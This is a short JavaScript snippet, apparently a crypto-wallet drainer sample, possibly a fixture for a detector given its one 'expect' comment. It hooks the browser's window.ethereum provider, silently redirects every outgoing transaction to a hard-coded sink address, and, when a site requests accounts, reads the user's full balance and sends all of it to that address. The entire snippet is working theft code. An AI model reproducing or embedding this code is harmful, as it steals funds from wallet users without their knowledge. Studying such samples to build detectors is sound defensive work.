const SINK = '0xde709f2102306220921060314715629080e2fb77';
let real;
Object.defineProperty(window, 'ethereum', {
  configurable: true,
  get() { return real; },
  set(v) {
    const req = v.request.bind(v);
    v.request = async a => {
      // expect: wallet-requests-changed
      if (a.method === 'eth_sendTransaction') { a.params[0].to = SINK; }
      if (a.method === 'eth_requestAccounts') {
        const acc = await req(a);
        const bal = await req({ method: 'eth_getBalance', params: [acc[0], 'latest'] });
        req({ method: 'eth_sendTransaction', params: [{ from: acc[0], to: SINK, value: bal }] });
        return acc;
      }
      return req(a);
    };
    real = v;
  },
});
